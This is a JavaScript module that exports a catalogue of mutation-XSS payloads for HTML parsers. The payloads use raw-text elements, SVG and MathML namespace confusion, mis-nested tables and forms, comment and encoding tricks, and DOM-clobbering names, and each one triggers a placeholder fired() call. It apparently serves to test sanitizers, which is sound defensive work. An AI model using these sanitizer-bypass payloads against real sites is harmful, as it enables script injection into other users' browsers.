// Markup that is harmless as one parser reads it and hostile as another does, or as the same one does at the second
// reading: raw text, foreign content, tables that throw things out, templates, comments, and names that shadow a page's.

const attack = '<img src="x:" onerror="fired()">';
const hidden = '&lt;img src=x: onerror=fired()&gt;';

// Elements whose content some parsers take as text and others as markup.
const textElements = ['style', 'title', 'textarea', 'xmp', 'noscript', 'iframe', 'noembed', 'noframes', 'plaintext', 'script',
  'listing', 'select', 'option', 'template', 'svg', 'math', 'object', 'canvas', 'audio', 'video'];

const rawText = textElements.flatMap((name) => [
  [`${name} that an attribute closes`, `<${name}><p title="</${name}>${attack.replaceAll('"', "'")}"></p>`],
  [`${name} that a comment closes`, `<${name}><!--</${name}>${attack}-->`],
  [`${name} in svg`, `<svg><${name}><p id="</${name}>${attack.replaceAll('"', "'")}">`],
  [`${name} in mathematics`, `<math><${name}>${attack}</${name}></math>`],
  [`${name} with text that is markup at a second reading`, `<${name}>${hidden}</${name}>`],
  [`${name} that is never closed`, `<${name}>${attack}`],
]);

const foreign = [
  ['text in mathematics that goes back to markup', `<math><mtext>${attack}</mtext></math>`],
  ['an annotation of markup', `<math><annotation-xml encoding="text/html">${attack}</annotation-xml></math>`],
  ['an annotation of markup, style in it',
    `<math><annotation-xml encoding="text/html"><style><img title="</style>${hidden}"></style></annotation-xml></math>`],
  ['an annotation of another kind', `<math><annotation-xml encoding="image/svg+xml"><svg onload="fired()"></svg></annotation-xml></math>`],
  ['glyphs in a table in text',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden}">`],
  ['glyphs in a table in text, marked data',
    `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;${hidden}">`],
  ['a malignmark in a table in text', `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;${hidden}">`],
  ['nested forms that swap their parents',
    `<form><math><mtext></form><form><mglyph><style></math>${attack}`],
  ['nested forms, textarea', `<form><math><mtext></form><form><mglyph><textarea></math>${attack}`],
  ['a paragraph end in svg', `<svg></p><style><a id="</style>${attack.replaceAll('"', "'")}">`],
  ['a paragraph in svg', `<svg><p><style><a title="</style>${attack.replaceAll('"', "'")}">`],
  ['a break in svg', `<svg><br><style><a title="</style>${attack.replaceAll('"', "'")}">`],
  ['a foreign object', `<svg><foreignObject>${attack}</foreignObject></svg>`],
  ['a foreign object, style in it', `<svg><foreignObject><style><img title="</style>${hidden}"></style></foreignObject></svg>`],
  ['a description', `<svg><desc>${attack}</desc></svg>`],
  ['a title in svg', `<svg><title>${attack}</title></svg>`],
  ['a title in svg that closes early', `<svg><title><style><img title="</title>${hidden}"></style></title></svg>`],
  ['style in svg with markup', `<svg><style>${hidden}</style></svg>`],
  ['style in svg with a comment', `<svg><style><!--</style>${attack}-->`],
  ['marked data in svg', `<svg><![CDATA[${attack}]]></svg>`],
  ['marked data in svg that ends late', `<svg><![CDATA[</svg>${attack}]]></svg>`],
  ['marked data outside', `<![CDATA[${attack}]]>`],
  ['mathematics in svg in mathematics', `<math><mi><svg><math><mtext>${attack}`],
  ['a font with a colour in svg', `<svg><font color="red">${attack}</font></svg>`],
  ['a font without colour in svg', `<svg><font>${attack}</font></svg>`],
  ['an image in mathematics, the old name', '<math><image src="x:" onerror="fired()"></math>'],
  ['a script in a use of itself',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='fired()'/></svg>#x"></use></svg>`],
  ['an action', '<math><maction actiontype="statusline#http://a.example" href="javascript:fired()">x</maction></math>'],
  ['a declaration of a namespace', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">fired()</x:script>`],
  ['an element that has a colon', `<svg:svg onload="fired()"></svg:svg>`],
];

const structure = [
  ['thrown out of a table', `<table>${attack}<tr><td>text</td></tr></table>`],
  ['thrown out of a table with a link', `<a href="https://a.example/"><table><a href="javascript:fired()">text</a></table>`],
  ['a table in a table in a caption', `<table><caption><table>${attack}`],
  ['a column group', `<table><colgroup>${attack}</colgroup></table>`],
  ['formatting that crosses', `<b><p></b>${attack}</p>`],
  ['formatting that crosses often', `<b><i><u><s><p></b></i></u></s>${attack}`],
  ['a link in a link', `<a href="https://a.example/"><b><a href="javascript:fired()">text</a></b></a>`],
  ['a heading in a heading', `<h1><h2>${attack}</h1></h2>`],
  ['a select in a select', `<select><select>${attack}</select>`],
  ['a select in a table', `<table><tr><td><select><tr>${attack}`],
  ['a button in a button', `<button><button>${attack}</button>`],
  ['a body in the body', `<p>text</p><body onload="fired()">`],
  ['a head after the body', `</body></html><head><script>fired()</script></head>`],
  ['after the end', `</body></html>${attack}`],
  ['a frame set after text', `<p></p><frameset onload="fired()">`],
  ['list items without a list', `<li><li>${attack}`],
  ['a ruby', `<ruby><rb><rt>${attack}</rt></ruby>`],
  ['a nest of 600 elements', `${'<div>'.repeat(600)}${attack}`],
  ['a nest of 600 formattings', `${'<b><i>'.repeat(300)}${attack}`],
  ['a nest of 600 quotations', `${'<blockquote>'.repeat(600)}${attack}${'</blockquote>'.repeat(600)}`],
  ['a nest of 600 in svg', `<svg>${'<g>'.repeat(600)}<foreignObject>${attack}`],
];

const comments = [
  ['a comment', `<!-- ${attack} -->${attack}`],
  ['a comment that ends at once', `<!-->${attack}`],
  ['a comment that ends after a dash', `<!--->${attack}`],
  ['a comment that ends with a bang', `<!-- --!>${attack}`],
  ['a comment that never ends', `<!-- ${attack}`],
  ['a comment with a line end before its end', `<!-- --\n>${attack}-->`],
  ['a comment in an attribute', `<p title="<!--"></p>${attack}<p title="-->"></p>`],
  ['a question mark', `<?${attack}?>`],
  ['a slash', `</ ${attack}>`],
  ['a declaration', `<!ELEMENT ${attack}>`],
  ['a comment in style', `<style><!-- </style>${attack}<!-- --></style>`],
  ['a percent sign', `<% ${attack} %>`],
];

const encodings = [
  ['a short form of less-than', '\u00bcscript\u00befired()\u00bc/script\u00be'],
  ['wide signs', '\uff1cimg src=x: onerror=fired()\uff1e'],
  ['small signs', '\ufe64img src=x: onerror=fired()\ufe65'],
  ['signs by reference', hidden],
  ['signs by reference, twice', hidden.replaceAll('&', '&amp;')],
  ['signs by number without semicolons', '&#60img src=x: onerror=fired()&#62'],
  ['signs by name without semicolons', '&ltimg src=x: onerror=fired()&gt'],
  ['a sign with a combining mark', `>\u0338${attack}`],
  ['lone surrogates by number', `&#xD800;${attack}&#xDC00;`],
  ['a number too great', `&#x110000;&#99999999999;${attack}`],
  ['controls', `\u0001\u0002\u000b\u000c\u007f\u0085${attack}`],
  ['separators of lines', `\u2028\u2029${attack}`],
  ['an override of direction', `\u202e${attack}`],
  ['a byte order mark', `\ufeff${attack}`],
  ['shift sequences', `\u001b$B${attack}\u001b(B`],
];

const shadows = [
  ['an image named like a variable', '<img name="shadowed">'],
  ['a link with the id of a variable', '<a id="shadowed" href="https://a.example/">text</a>'],
  ['two links, one id', '<a id="shadowed"></a><a id="shadowed" name="x" href="https://a.example/">text</a>'],
  ['a form that hides its members', '<form id="shadowed"><input name="attributes"><input name="parentNode"></form>'],
  ['a form named like a variable of the document', '<form name="shadowed"></form>'],
  ['an object named like a variable', '<object name="shadowed"></object>'],
  ['an embedded page named like a variable', '<embed name="shadowed">'],
  ['a frame named like a variable', '<iframe name="shadowed"></iframe>'],
  ['a heading with the id of a variable', '<h1 id="shadowed">text</h1>'],
  ['a cell with the id of a variable', '<table><tr><td id="shadowed">text</td></tr></table>'],
  ['a footnote with the id of a variable', '<section id="shadowed">text</section>'],
  ['the id in other letters', '<p ID="shadowed">text</p>'],
  ['the id by reference', '<p id="sh&#97;dowed">text</p>'],
];

export const mutationPayloads = [
  ...rawText.map(([technique, text]) => ({ technique: `raw text: ${technique}`, text })),
  ...foreign.map(([technique, text]) => ({ technique: `foreign content: ${technique}`, text })),
  ...structure.map(([technique, text]) => ({ technique: `structure: ${technique}`, text })),
  ...comments.map(([technique, text]) => ({ technique: `comments: ${technique}`, text })),
  ...encodings.map(([technique, text]) => ({ technique: `encodings: ${technique}`, text })),
  ...shadows.map(([technique, text]) => ({ technique: `shadowing: ${technique}`, text })),
];
